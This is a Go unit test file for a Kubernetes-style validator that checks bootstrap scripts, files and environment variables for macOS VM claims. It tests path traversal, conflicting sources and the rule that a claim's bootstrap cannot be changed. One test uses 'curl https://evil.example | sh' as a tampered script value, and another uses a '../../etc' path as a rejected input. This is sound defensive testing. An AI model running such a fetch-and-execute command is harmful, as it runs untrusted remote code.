package v1alpha1

import (
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/util/validation/field"

	macvirtv1alpha1 "github.com/macvirt/macvirt/api/v1alpha1"
)

func TestValidateBootstrapNamesTheField(t *testing.T) {
	ref := &macvirtv1alpha1.LocalKeyRef{Name: "s", Key: "k"}
	inline := &macvirtv1alpha1.BootstrapScript{Inline: "true"}
	cases := map[string]struct {
		b     macvirtv1alpha1.Bootstrap
		class bool
		field string // empty: valid
	}{
		"a script":                 {b: macvirtv1alpha1.Bootstrap{Script: inline}},
		"a file from a ConfigMap":  {b: macvirtv1alpha1.Bootstrap{Files: []macvirtv1alpha1.BootstrapFile{{Path: "/Users/admin/.npmrc", ConfigMapKeyRef: ref}}}},
		"nothing to do":            {b: macvirtv1alpha1.Bootstrap{}, field: "spec.bootstrap.script"},
		"two script sources":       {b: macvirtv1alpha1.Bootstrap{Script: &macvirtv1alpha1.BootstrapScript{Inline: "x", SecretKeyRef: ref}}, field: "spec.bootstrap.script"},
		"a relative path":          {b: macvirtv1alpha1.Bootstrap{Files: []macvirtv1alpha1.BootstrapFile{{Path: "etc/x", SecretKeyRef: ref}}}, field: "spec.bootstrap.files[0].path"},
		"a path with ..":           {b: macvirtv1alpha1.Bootstrap{Files: []macvirtv1alpha1.BootstrapFile{{Path: "/Users/admin/../../etc/x", SecretKeyRef: ref}}}, field: "spec.bootstrap.files[0].path"},
		"a file of two sources":    {b: macvirtv1alpha1.Bootstrap{Files: []macvirtv1alpha1.BootstrapFile{{Path: "/x", SecretKeyRef: ref, ConfigMapKeyRef: ref}}}, field: "spec.bootstrap.files[0]"},
		"HOME":                     {b: macvirtv1alpha1.Bootstrap{Script: inline, Env: []macvirtv1alpha1.BootstrapEnvVar{{Name: "HOME", Value: "/"}}}, field: "spec.bootstrap.env[0].name"},
		"value and secret":         {b: macvirtv1alpha1.Bootstrap{Script: inline, Env: []macvirtv1alpha1.BootstrapEnvVar{{Name: "A", Value: "x", SecretKeyRef: ref}}}, field: "spec.bootstrap.env[0]"},
		"too much literal env":     {b: macvirtv1alpha1.Bootstrap{Script: inline, Env: []macvirtv1alpha1.BootstrapEnvVar{{Name: "A", Value: strings.Repeat("x", 40<<10)}, {Name: "B", Value: strings.Repeat("x", 40<<10)}}}, field: "spec.bootstrap.env"},
		"a class's Secret script":  {b: macvirtv1alpha1.Bootstrap{Script: &macvirtv1alpha1.BootstrapScript{SecretKeyRef: ref}}, class: true, field: "spec.bootstrap.script"},
		"a class's Secret env":     {b: macvirtv1alpha1.Bootstrap{Script: inline, Env: []macvirtv1alpha1.BootstrapEnvVar{{Name: "A", SecretKeyRef: ref}}}, class: true, field: "spec.bootstrap.env[0].secretKeyRef"},
		"a class's file":           {b: macvirtv1alpha1.Bootstrap{Script: inline, Files: []macvirtv1alpha1.BootstrapFile{{Path: "/x", ConfigMapKeyRef: ref}}}, class: true, field: "spec.bootstrap.files[0]"},
		"a class's literal values": {b: macvirtv1alpha1.Bootstrap{Script: inline, User: "root", Env: []macvirtv1alpha1.BootstrapEnvVar{{Name: "A", Value: "x"}}}, class: true},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			errs := validateBootstrap(field.NewPath("spec", "bootstrap"), &tc.b, tc.class)
			if tc.field == "" {
				if len(errs) > 0 {
					t.Fatalf("refused: %v", errs)
				}
				return
			}
			for _, e := range errs {
				if e.Field == tc.field {
					return
				}
			}
			t.Fatalf("got %v, want an error naming %s", errs, tc.field)
		})
	}
}

func TestAClaimsBootstrapIsImmutable(t *testing.T) {
	old := &macvirtv1alpha1.MacClaim{Spec: macvirtv1alpha1.MacClaimSpec{ClassName: "c",
		Bootstrap: &macvirtv1alpha1.Bootstrap{Script: &macvirtv1alpha1.BootstrapScript{Inline: "true"}}}}
	changed := old.DeepCopy()
	changed.Spec.Bootstrap.Script.Inline = "curl https://evil.example | sh"
	errs := ValidateMacClaimUpdate(old, changed)
	if len(errs) != 1 || errs[0].Field != "spec.bootstrap" {
		t.Fatalf("got %v, want spec.bootstrap refused", errs)
	}
	if errs := ValidateMacClaimUpdate(old, old.DeepCopy()); len(errs) != 0 {
		t.Fatalf("an unchanged bootstrap was refused: %v", errs)
	}
}
